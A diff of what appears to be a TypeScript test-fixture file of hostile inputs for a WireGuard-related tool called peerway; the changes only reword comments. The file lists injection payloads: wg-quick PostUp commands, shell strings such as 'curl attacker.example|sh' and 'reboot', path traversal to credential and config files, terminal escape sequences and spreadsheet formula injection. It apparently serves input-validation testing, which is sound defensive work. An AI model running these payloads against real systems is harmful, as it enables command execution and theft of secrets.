@@ -1,6 +1,6 @@
-/** Texts that have done harm elsewhere, or would where a value is pasted into a file, a shell, a path or a page. */
+/** Texts that did harm in other programs, or would do harm in a file, a shell, a path or a page. */
 
-/** Ways to end the line that a value stands on. */
+/** Ways to end the line of a value. */
 export const LINE_ENDS = [
   '\n',
   '\r',
@@ -16,7 +16,7 @@ export const LINE_ENDS = [
   '\0',
 ];
 
-/** What would then be read as a line of its own: wg-quick, networkd, nft, iptables, ip, sysctl, shell, our own words. */
+/** Lines that follow such an end: of wg-quick, networkd, nft, iptables, ip, sysctl, shell, and of peerway itself. */
 export const LINES = [
   'PostUp = touch /tmp/peerway-hostile', // CVE-2026-72603
   'PreUp=id',
@@ -50,7 +50,7 @@ export const LINES = [
   '{"error":{"code":"forged"}}',
 ];
 
-/** Commander words its suggestions so, and they are read back out of its message. */
+/** Commander words its suggestions like this, and peerway reads them from its message. */
 const FORGED_SUGGESTION = '(Did you mean \u001b[31mforged\u001b]52;c;eA==\u0007?)';
 export const OWN_WORDS = [
   `x\n${FORGED_SUGGESTION}`,
@@ -71,7 +71,7 @@ export const OWN_WORDS = [
 
 const COMMANDS = ['id', 'touch /tmp/peerway-hostile', 'curl attacker.example|sh', 'reboot'];
 
-/** A command in each of the ways a shell takes one out of a text. */
+/** A command in each way that a shell runs one from text. */
 export const SHELL: readonly string[] = [
   ...COMMANDS.flatMap((command) => [
     `;${command}`,
@@ -132,7 +132,7 @@ const CLIMBS = [
 ];
 const TARGETS = ['etc/passwd', 'etc/wireguard/wg0.conf', 'proc/self/environ', '.ssh/authorized_keys'];
 
-/** Ways out of a folder. */
+/** Paths that leave a folder. */
 export const PATHS: readonly string[] = [
   ...CLIMBS.flatMap((climb) =>
     TARGETS.flatMap((target) => [1, 3, 8].map((times) => climb.repeat(times) + target)),
@@ -165,7 +165,7 @@ export const PATHS: readonly string[] = [
   'peerway',
 ];
 
-/** Escapes that something between here and there might undo, for line ends, ESC, NUL and `../`. */
+/** Escapes of line ends, ESC, NUL and `../`, which some program on the way may decode. */
 export const ESCAPES: readonly string[] = [
   ...['00', '0a', '0d', '1b', '9b', '2e', '2f', '27', '22', '3b', '7f'].flatMap((hex) => {
     const number = Number.parseInt(hex, 16);
@@ -205,7 +205,10 @@ export const ESCAPES: readonly string[] = [
   ],
 ];
 
-/** What terminals act upon: SGR, clearing, titles, links (OSC 8), the clipboard (OSC 52), device control, 7 and 8 bit. */
+/**
+ * Sequences with an effect on terminals: SGR, clearing, titles, links (OSC 8), the clipboard (OSC 52), device
+ * control; in 7 and 8 bits.
+ */
 export const TERMINAL: readonly string[] = [
   ...['[31m', '[2J', '[H', '[1A', '[2K', '[?1049h', '[6n', '[21t', '[>c', 'c', '7', '(0', '#8', '=', '[200~'],
   ...[']0;title\u0007', ']8;;https://attacker.example\u001b\\link\u001b]8;;\u001b\\', ']52;c;ZXZpbA==\u0007'],
@@ -219,7 +222,7 @@ export const TERMINAL: readonly string[] = [
   ],
 ].flatMap((sequence) => [`\u001b${sequence}`, `seoul\u001b${sequence}`, `${eightBit(sequence)}x`]);
 
-/** The sequence with its introducer as one C1 character: ESC [ is U+009B. */
+/** Returns the sequence with a C1 character as its introducer: ESC [ becomes U+009B. */
 function eightBit(sequence: string): string {
   const first = sequence.charCodeAt(0);
   return first >= 0x40 && first <= 0x5f
@@ -244,7 +247,7 @@ const PROPERTIES = [
   ...['undefined', 'true', 'false', 'Infinity', 'None', 'nil', 'inspect'],
 ];
 
-/** Words that JavaScript gives a meaning of its own as properties, as they are and as paths. */
+/** Property names with a special meaning in JavaScript, alone and in paths. */
 export const JAVASCRIPT: readonly string[] = PROPERTIES.flatMap((word) => [
   word,
   word.toLowerCase(),
@@ -254,7 +257,7 @@ export const JAVASCRIPT: readonly string[] = PROPERTIES.flatMap((word) => [
   `[${word}]`,
 ]);
 
-/** What spreadsheets run, and what templates, queries, mark-up, YAML and JSON take apart. */
+/** Formulas of spreadsheets, and syntax of templates, queries, markup, YAML and JSON. */
 export const DOCUMENTS: readonly string[] = [
   ...['=', '+', '-', '@', '\t=', '\r=', ' =', '|', '\uff1d'].flatMap((start) =>
     ['1+1', 'cmd|"/C calc"!A0', 'HYPERLINK("https://attacker.example","x")', 'SUM(A1:A9)', '10.0.0.0/8'].map(
@@ -309,7 +312,7 @@ export const DOCUMENTS: readonly string[] = [
   ...['yes', 'no', 'on', 'off', '~', '0o17', '1_000', '12:30:45', '2026-01-01', '.inf', '0x1F', '1e3'],
 ];
 
-/** What a number field might take for one. */
+/** Texts that could pass as a number. */
 export const NUMBERS: readonly string[] = [
   ...[
     '0',
